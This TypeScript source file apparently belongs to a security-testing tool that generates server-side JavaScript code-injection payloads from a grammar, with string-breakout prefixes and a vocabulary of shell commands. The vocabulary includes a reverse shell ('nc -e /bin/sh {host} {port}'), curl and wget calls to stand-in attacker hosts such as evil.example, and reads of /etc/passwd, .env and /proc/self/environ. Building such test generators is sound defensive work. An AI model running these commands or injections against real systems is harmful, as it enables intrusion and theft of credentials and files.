import type { Source } from '../../../../../packages/core/src/values/value.js';
import type { Random } from '../../random.js';
import type { Attack, Generator } from '../attack.js';
import { type Rules, writeByGrammar, writeDistinct } from '../grammar.js';

/** Where an application evaluates the text. JavaScript ones are run, the other languages' are not. */
export interface CodePlace {
  readonly context: string;
  readonly language: string;
  /** What leads to where a statement can stand, and what deals with the rest. */
  readonly open: readonly string[];
  readonly end: readonly string[];
}

const place = (
  context: string,
  open: readonly string[],
  end: readonly string[],
  language = 'javascript',
): CodePlace => ({
  context,
  language,
  open,
  end,
});

export const EXPRESSION = place('expression', ['', '', '{digit};'], ['', '', ';', '//']);
export const STRING_SINGLE = place('string-single', ["';", "{letters}';", "'\n;"], ['//', ";'", ';//', ";var a='"]);
export const STRING_DOUBLE = place('string-double', ['";', '{letters}";', '"\n;'], ['//', ';"', ';//', ';var a="']);
export const FUNCTION_BODY = place('function-body', ['', 'var x={digit};'], ['', ';']);
export const CONTEXT = place('vm-context', ['', '', '{digit};'], ['', ';']);
export const SERIALIZED = place('node-serialize', [''], ['']);
export const JAVASCRIPT: readonly CodePlace[] = [EXPRESSION, EXPRESSION, STRING_SINGLE, STRING_DOUBLE, FUNCTION_BODY];
export const other = (language: string, context = 'expression'): readonly CodePlace[] => [
  place(context, ['', '', '{digit};'], ['', '', ';'], language),
];

/** One kind of code injection; its rule `start` writes the text, or what is said for the place's language. */
export interface CodeGrammar {
  readonly name: string;
  readonly places: readonly CodePlace[];
  readonly location?: Source;
  readonly rules: Rules;
  /** Where a text of one language is nothing in the others, so that none is rewritten by the rules of another. */
  readonly starts?: Readonly<Record<string, readonly string[]>>;
}

/** A generator of code that a server evaluates. `{l}` and `{r}` stand for braces, `{open}` and `{end}` for the place's. */
export function codeGenerator(grammar: CodeGrammar): Generator {
  return {
    family: 'code',
    name: grammar.name,
    generate: (random, count) =>
      writeDistinct(
        count,
        () => writeAttack(random, grammar),
        ({ text, position }) => `${position.context} ${position.dialect} ${text}`,
      ),
  };
}

function writeAttack(random: Random, { name, places, location, rules, starts }: CodeGrammar): Attack {
  const { context, language, open, end } = random.pick(places);
  return {
    family: 'code',
    text: writeByGrammar(random, {
      ...VOCABULARY,
      open,
      end,
      ...rules,
      start: starts?.[language] ?? rules.start ?? [],
    }),
    position: { ...(location === undefined ? {} : { location }), context, dialect: language },
    origin: name,
    mutations: [],
  };
}

const VOCABULARY: Rules = {
  l: () => '{',
  r: () => '}',
  digit: (random) => String(1 + random.below(9)),
  number: (random) => String(10 + random.below(990)),
  letters: (random) => Array.from({ length: 4 }, () => String.fromCharCode(97 + random.below(26))).join(''),
  host: (random) => random.pick(['evil.example', '203.0.113.7', 'x.oast.example', 'a.b.example.net', '198.51.100.9']),
  port: ['80', '443', '4444', '8080', '9001'],
  q: ["'", '"', '`'],
  command: [
    'id',
    'whoami',
    'ls',
    'ls -la /',
    'cat /etc/passwd',
    'uname -a',
    'sleep {digit}',
    'curl {host}',
    'hostname',
    'env',
    'touch /tmp/{letters}',
    'ping -c1 {host}',
    'wget http://{host}/',
    'nc -e /bin/sh {host} {port}',
    'dir',
  ],
  file: [
    '/etc/passwd',
    '/etc/hosts',
    '/proc/self/environ',
    '.env',
    '../config.json',
    './package.json',
    '/app/server.js',
  ],
  run: ['exec', 'execSync', 'spawn', 'spawnSync', 'execFile', 'execFileSync', 'fork'],
};
